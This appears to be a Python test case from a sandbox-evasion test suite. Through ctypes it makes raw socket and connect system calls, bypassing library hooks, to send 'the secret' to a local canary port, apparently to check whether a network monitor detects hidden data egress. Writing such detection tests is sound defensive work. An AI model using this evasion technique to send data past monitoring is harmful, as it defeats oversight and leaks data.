"""The system call itself, past every library."""

import ctypes
import os
import platform
import struct

from tests.evaders.canary import Canary

SOCKET, CONNECT = {"aarch64": (198, 203)}.get(platform.machine(), (41, 42))


def main(canary: Canary) -> bool:
    libc = ctypes.CDLL(None, use_errno=True)
    link = libc.syscall(SOCKET, 2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack("!H4s8x", canary.tcp, bytes([127, 0, 0, 1]))
    reached = libc.syscall(CONNECT, link, address, len(address)) == 0
    if reached:
        os.write(link, b"the secret")
    return bool(reached)
